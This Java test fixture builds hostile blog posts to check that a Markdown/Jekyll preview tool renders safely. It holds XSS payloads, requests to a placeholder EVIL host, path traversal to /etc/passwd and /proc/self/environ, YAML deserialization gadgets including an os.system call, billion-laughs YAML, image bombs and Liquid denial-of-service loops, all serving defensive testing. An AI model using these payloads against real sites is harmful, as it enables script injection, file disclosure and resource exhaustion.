package hoego.ui;

import hoego.markdown.HostileFragments;
import hoego.web.PictureServer;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/**
 * A blog of hostile posts, and what is outside of it.
 *
 * <p>In the texts {@code EVIL} stands for an address that nobody may be asked for, {@code SECRET}
 * for a file's path that nobody may read, {@code OUTSIDE} for the address of its folder.
 */
final class HostilePosts {
  /** What must never be seen. */
  static final String SECRET = "very-secret-words";

  /** So wide, in pixels, is the picture outside that must never be shown. */
  static final int SECRET_WIDTH = 61;

  private static final String FRONT = "---\ntitle: 회고\n---\n\n";
  private static final int MEGABYTE = 1_000_000;

  /** Behind an ordinary front matter. */
  private static final List<String> BODIES =
      List.of(
          // Attribute lists of kramdown.
          "글\n{: onclick=\"alert(1)\" onmouseover='alert(1)' ONFOCUS=\"alert(1)\"}",
          "글\n{: style=\"position:fixed;top:0;left:0;width:100%;height:100%;z-index:9\"}",
          "[글](x){: href=\"javascript:alert(1)\" onclick=\"alert(1)\"}",
          "![글](a.png){: src=\"EVIL/ial.png\" srcset=\"EVIL/set.png 2x\" onerror=\"alert(1)\"}",
          "{:x: onclick=\"alert(1)\" style=\"background:url(EVIL/ald.png)\"}\n\n글\n{: x}",
          "글\n{: id=\"hoego-post\" class=\"hoego-card\" srcdoc=\"<script>alert(1)</script>\"}",
          "## 제목 {#\"><script>alert(1)</script>}",
          "- 가\n{: onclick=\"alert(1)\"}\n- {: onload=\"alert(1)\"}나",
          "| 가 |{: onclick=\"alert(1)\"}\n{: onclick=\"alert(1)\" background=\"EVIL/table.png\"}",
          "```\n글\n```\n{: .language-\"><script>alert(1)</script> onclick=\"alert(1)\"}",
          // Other marks of kramdown that keep HTML.
          "글[^a]\n\n[^a]: <script>alert(1)</script><img src=EVIL/note.png onerror=alert(1)>",
          "*[글]: \"><script>alert(1)</script><img src=EVIL/abbr.png>\n\n글",
          "<script>alert(1)</script>\n: <img src=EVIL/dd.png onerror=alert(1)>",
          "{::nomarkdown}<script>alert(1)</script><img src=EVIL/nomd.png>{:/nomarkdown}",
          "{::nomarkdown type=\"html\"}<iframe src=EVIL/nomd.html></iframe>{:/}",
          "{::options parse_block_html=\"true\" /}\n\n<div><script>alert(1)</script>*글*</div>",
          "{::comment}<script>alert(1)</script>{:/comment}<!-- <script>alert(1)</script> -->",
          "``` \"><script>alert(1)</script>\n<script>alert(1)</script>\n```",
          "[글]: EVIL/ref.png \"x\\\" onerror=alert(1)\"\n\n![글] [글]",
          "<EVIL/auto.png> EVIL/bare.png <a@b.kr?x=\"onclick=alert(1)>",
          "# 제목\n{:toc}\n\n* toc\n{:toc}\n\n## <img src=EVIL/toc.png onerror=alert(1)>",
          // Formulas and diagrams.
          "$$\\href{javascript:alert(1)}{x}$$",
          "$$\\url{javascript:alert(1)} \\href{EVIL/math}{x}$$",
          "$$\\includegraphics{EVIL/math.png}$$",
          "$$\\htmlStyle{position:fixed}{x}\\htmlClass{hoego-card}{y}\\htmlData{a=b}{z}$$",
          "$$\\def\\x{\\x\\x}\\x$$",
          "$$\\def\\a#1{#1#1}" + "\\a{".repeat(24) + "x" + "}".repeat(24) + "$$",
          "$$\\rule{99999em}{99999em}\\kern-9999em x$$",
          "$$" + "{".repeat(4_000) + "x" + "}".repeat(4_000) + "$$",
          "$$</math><script>alert(1)</script>\\text{</annotation><img src=x onerror=alert(1)>}$$",
          "```mermaid\ngraph TD\nA[\"<img src=EVIL/a.png onerror=alert(1)>\"] --> B\n```",
          "```mermaid\ngraph TD\nA --> B\nclick A \"javascript:alert(1)\" \"EVIL\" _blank\n```",
          "```mermaid\n%%{init: {\"securityLevel\": \"loose\", \"themeCSS\": \"@import"
              + " url(EVIL/x.css)\"}}%%\ngraph TD\nA[<script>alert(1)</script>] --> B\n```",
          "<div class=\"mermaid\">graph TD; A--&gt;B</div><script>mermaid.init()</script>",
          // Liquid.
          "{% include ../../secret.txt %}",
          "{% include SECRET %}",
          "{% include_relative ../../secret.txt %}",
          "{% include_relative SECRET %}",
          "{% include out.txt %}",
          "{% assign f = '../../secret.txt' %}{% include {{ f }} %}",
          "{% include loop.html %}",
          "{{ '<script>alert(1)</script><img src=EVIL/liquid.png onerror=alert(1)>' }}",
          "{% raw %}<script>alert(1)</script>{% endraw %}{{ page.title | append: '<script>' }}",
          "{% for i in (1..99999999) %}글{% endfor %}",
          "{% for i in (1..9999) %}{% for j in (1..9999) %}글{% endfor %}{% endfor %}",
          "{% assign x = '글글글글글글글글' %}" + "{% assign x = x | append: x %}".repeat(40) + "{{ x }}",
          "{% capture x %}" + "{{ x }}{{ x }}".repeat(2_000) + "{% endcapture %}{{ x }}",
          "{{ 'a' | split: '' | map: 'x' | sort | uniq | join: '<script>alert(1)</script>' }}",
          "{% if ".repeat(2_000),
          "{{ site.pages | jsonify }}{{ site.static_files | jsonify }}{{ site.source }}",
          // Files that are not the blog's.
          "![](../../outside.png)",
          "![](../../../../../../../../../../etc/passwd)",
          "![](/../outside.png) ![](/assets/../../outside.png)",
          "![](..%2f..%2foutside.png) ![](%2e%2e/%2e%2e/outside.png)",
          "![](..\\\\..\\\\outside.png) ![](C:\\\\Windows\\\\a.png) ![](\\\\\\\\srv\\\\a\\\\b.png)",
          "![](OUTSIDE/outside.png) <img src=\"OUTSIDE/outside.png\">",
          "![](file:../../outside.png) ![](FILE:///etc/passwd) ![](jar:OUTSIDE/a.jar!/b.png)",
          "![](/assets/link.png) ![](/assets/linked/outside.png)",
          "![](/dev/zero) ![](/proc/self/environ) ![](/assets/fifo.png)",
          "![](a\u0000b.png) ![](a%00b.png) ![](con.png) ![](" + "a".repeat(5_000) + ".png)",
          "<link rel=stylesheet href=\"OUTSIDE/x.css\"><style>@import 'OUTSIDE/x.css'</style>",
          "<iframe src=\"SECRET\"></iframe><object data=\"SECRET\"></object><embed src=\"SECRET\">",
          // Pictures that are none, or too much.
          "![](/assets/bomb.png)",
          "![](/assets/bomb.gif)",
          "![](/assets/bomb.bmp)",
          "![](/assets/page.png) ![](/assets/script.svg) ![](/assets/cut.png)",
          "![](data:image/png;base64,BOMB)",
          "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+\">",
          "<img src=\"/assets/small.png\" width=99999 height=99999 style=\"width:99999px\">",
          "![](/assets/small.png)\n".repeat(3_000),
          // Loading by other names.
          "<img srcset=\"EVIL/1.png 1x, EVIL/2.png 2x\" sizes=100vw>",
          "<picture><source srcset=EVIL/1.webp><img src=EVIL/2.png></picture>",
          "<body background=EVIL/body.png><table background=EVIL/table.png><td background=EVIL/td>",
          "<input type=image src=EVIL/input.png><button style=\"background:url(EVIL/b.png)\">",
          "<link rel=prefetch href=EVIL/1><link rel=dns-prefetch href=EVIL><link rel=icon"
              + " href=EVIL>",
          "<link rel=preload as=image href=EVIL/2><link rel=modulepreload href=EVIL/3>",
          "<p style=\"background:image-set('EVIL/1.png' 1x);cursor:url(EVIL/c),auto\">글</p>",
          "<p style=\"list-style:url(EVIL/l);border-image:url(EVIL/b);mask:url(EVIL/m)\">글</p>",
          "<style>@font-face{font-family:x;src:url(EVIL/f.woff)}p{font-family:x}</style>",
          "<meta http-equiv=\"Link\" content=\"<EVIL/x.css>;rel=stylesheet\"><meta charset=utf-7>",
          "<a href=EVIL/ping ping=EVIL/ping2 autofocus onfocus=alert(1)>글</a>",
          "<details open ontoggle=alert(1)><summary>글</summary><video autoplay"
              + " src=EVIL/v></details>",
          "<svg><image href=EVIL/svg.png /><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
          "<script type=importmap>{}</script><script type=module>import 'EVIL/m.js'</script>",
          "<iframe srcdoc=\"&lt;img src=EVIL/srcdoc.png onerror=parent.alert(1)&gt;\"></iframe>",
          "<div style=\"width:9999999px;height:9999999px;font-size:99999px\">글</div>",
          // Letters.
          "\u202Egnp.exe\u202C \u2066<script>alert(1)</script>\u2069 \u200F\u061C",
          "가\u0000나<scr\u0000ipt>alert(1)</scr\u0000ipt>\u0001\u001b[31m\u009b",
          "글" + "\u0301".repeat(20_000),
          "👩‍".repeat(5_000),
          "👨‍👩‍👧 ".repeat(1_000),
          "हिन्दी ".repeat(2_000),
          "\u1112\u116c\u1100\u1169 ".repeat(2_000),
          "العربية ".repeat(100),
          "가 العربية " + "العربية, ".repeat(100) + "a".repeat(200),
          "\uFFFE\uFFFF\uFDD0 \u2028\u2029<img\u2028src=EVIL/ls.png\u2028onerror=alert(1)>",
          "</body></html><script>alert(1)</script></div></div></div>글",
          "<!-- ".repeat(500) + "<img src=EVIL/c.png onerror=alert(1)>");

  /** Whole files. */
  private static final List<String> FILES =
      List.of(
          "---\ntitle: \"<script>alert(1)</script><img src=EVIL/title onerror=alert(1)>\"\n"
              + "subtitle: \"<img src='EVIL/sub'>\"\ntags: [\"<img src=EVIL/tag>\"]\n---\n글\n",
          "---\ntitle: \"" + "العربية ".repeat(100) + "\"\n---\n글\n",
          "---\ntitle: 글\nimage: EVIL/front.png\n---\n글\n",
          "---\n"
              + "title: 글\n"
              + "image: {path: \"javascript:alert(1)\", alt: \"\\\" onerror=alert(1)\"}\n"
              + "---\n",
          "---\ntitle: 글\nimage: ../../outside.png\n---\n글\n",
          "---\ntitle: 글\nmedia_subpath: ../..\n---\n![](outside.png)\n",
          "---\ntitle: 글\nimg_path: OUTSIDE\n---\n![](outside.png)\n",
          "---\ntitle: 글\nmedia_subpath: EVIL\n---\n![](a.png)\n",
          "---\ntitle: 글\nlayout: ../../secret\nauthor: <img src=EVIL/author>\n---\n글\n",
          "---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n"
              + "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n"
              + "e: &e [*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e]\n"
              + "title: *f\n---\n{{ page.f }}\n",
          "---\ntitle: &a [*a]\n---\n{{ page.title }}\n",
          "---\ntitle: " + "[".repeat(20_000) + "\n---\n글\n",
          "---\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URL [\"EVIL/yaml\"]]\n---\n",
          "---\ntitle: !!python/object/apply:os.system ['touch /tmp/x']\n---\n글\n",
          "---\ntitle: 글\ntags: [" + "글,".repeat(20_000) + "글]\n---\n글\n",
          "---\ntitle: \"" + "글".repeat(100_000) + "\"\n---\n글\n",
          "---\ntitle: 가\ntitle: 나\n? {a: b}\n: c\n---\n글\n",
          "---\ndate: 999999999-99-99 99:99:99 +9999\npermalink: ../../../../x\n---\n글\n",
          "---\ntitle: \"\u202Egnp.exe \u0007\"\n---\n글\n",
          "---\n" + "a: b\n".repeat(20_000),
          "---\n---\n---\n---\n<script>alert(1)</script>\n",
          "<script>alert(1)</script>\n---\ntitle: 글\n---\n",
          "---\ntitle: 글\nmermaid: true\nmath: true\n---\n$\\href{javascript:alert(1)}{x}$\n");

  private HostilePosts() {}

  /** The texts by short names, in order. */
  static Map<String, String> all() {
    List<String> texts = new ArrayList<>();
    HostileFragments.all()
        .forEach(each -> texts.add(FRONT + each.replace("https://evil.example", "EVIL") + "\n"));
    BODIES.forEach(each -> texts.add(FRONT + each + "\n"));
    texts.addAll(FILES);
    return named("hostile", texts);
  }

  /** A megabyte each of what costs most. */
  static Map<String, String> costly() {
    return named(
        "costly",
        List.of(
            FRONT + repeated("["),
            FRONT + repeated("[a](b"),
            FRONT + repeated("![](a.png)\n\n"),
            FRONT + repeated("*a "),
            FRONT + repeated("**"),
            FRONT + repeated("`a"),
            FRONT + repeated("\\"),
            FRONT + repeated("<b>"),
            FRONT + repeated("<div>\n"),
            FRONT + repeated("<a href=\""),
            FRONT + repeated("<table><tr><td>"),
            FRONT + repeated("|a|b|\n"),
            FRONT + repeated("> "),
            FRONT + repeated("- a\n"),
            FRONT + repeated("1. "),
            FRONT + repeated("# a\n"),
            FRONT + repeated("[^a]: b\n"),
            FRONT + repeated("[^a]"),
            FRONT + repeated("*[a]: b\n"),
            FRONT + repeated("a\n: b\n\n"),
            FRONT + repeated("a\n{: .b}\n\n"),
            FRONT + repeated("$$x$$ "),
            FRONT + repeated("$$\nx\n$$\n\n"),
            FRONT + repeated("{{ a }}"),
            FRONT + repeated("{% if a %}"),
            FRONT + repeated("```java\nint a;\n```\n"),
            FRONT + repeated("<td colspan=1000 rowspan=65534>"),
            FRONT + repeated("&amp;"),
            FRONT + repeated("가"),
            FRONT + repeated("가나 다라.\n\n"),
            FRONT + "글" + repeated("\u0301"),
            FRONT + repeated("👩‍"),
            "---\ntitle: 글\ntags: [" + repeated("글,") + "글]\n---\n글\n",
            "---\n" + repeated("a: b\n"),
            "---\ntitle: " + repeated("가") + "\n---\n"));
  }

  /** The blog's other files, and those outside of it. */
  static void furnish(Path site, Path outside) throws IOException {
    Files.createDirectories(site.resolve("assets"));
    Files.createDirectories(site.resolve("_includes"));
    Files.writeString(outside.resolve("secret.txt"), SECRET);
    Files.write(outside.resolve("outside.png"), PictureServer.png(SECRET_WIDTH, 9));
    Files.writeString(site.resolve("_config.yml"), "title: 블로그\n");
    Files.writeString(site.resolve("_includes/loop.html"), "글{% include loop.html %}");
    Files.createSymbolicLink(site.resolve("_includes/out.txt"), outside.resolve("secret.txt"));
    Files.createSymbolicLink(site.resolve("assets/link.png"), outside.resolve("outside.png"));
    Files.createSymbolicLink(site.resolve("assets/linked"), outside);
    Path assets = site.resolve("assets");
    Files.write(assets.resolve("small.png"), PictureServer.png(4, 4));
    Files.write(assets.resolve("bomb.png"), bomb());
    ByteArrayOutputStream gif = new ByteArrayOutputStream();
    gif.write("GIF89a".getBytes(StandardCharsets.US_ASCII));
    gif.write(new byte[] {-1, -1, -1, -1, 0, 0, 0, 0x2C, 0, 0, 0, 0, -1, -1, -1, -1, 0, 2, 0});
    Files.write(assets.resolve("bomb.gif"), gif.toByteArray());
    ByteBuffer bmp = ByteBuffer.allocate(60).order(ByteOrder.LITTLE_ENDIAN);
    bmp.put((byte) 'B').put((byte) 'M').putInt(60).putInt(0).putInt(54).putInt(40);
    bmp.putInt(60_000).putInt(60_000).putShort((short) 1).putShort((short) 24);
    Files.write(assets.resolve("bomb.bmp"), bmp.array());
    Files.writeString(assets.resolve("page.png"), "<script>alert(1)</script>");
    Files.writeString(
        assets.resolve("script.svg"),
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>");
    byte[] whole = PictureServer.png(9, 9);
    Files.write(assets.resolve("cut.png"), Arrays.copyOf(whole, whole.length / 2));
  }

  /** A text as it goes into a post's file. */
  static String filled(String text, String evil, Path outside) {
    return text.replace("EVIL", evil)
        .replace("SECRET", outside.resolve("secret.txt").toString())
        .replace("OUTSIDE", outside.toUri().toString().replaceAll("/$", ""))
        .replace("BOMB", Base64.getEncoder().encodeToString(bomb()));
  }

  /** A tiny PNG that says it is 60,000 pixels wide and high. */
  private static byte[] bomb() {
    byte[] png = PictureServer.png(1, 1);
    ByteBuffer.wrap(png).putInt(16, 60_000).putInt(20, 60_000);
    return png;
  }

  private static String repeated(String piece) {
    return piece.repeat(MEGABYTE / piece.getBytes(StandardCharsets.UTF_8).length);
  }

  private static Map<String, String> named(String name, List<String> texts) {
    Map<String, String> posts = new LinkedHashMap<>();
    for (String text : texts) {
      posts.put("2024-01-01-%s-%03d.md".formatted(name, posts.size() + 1), text);
    }
    return posts;
  }
}
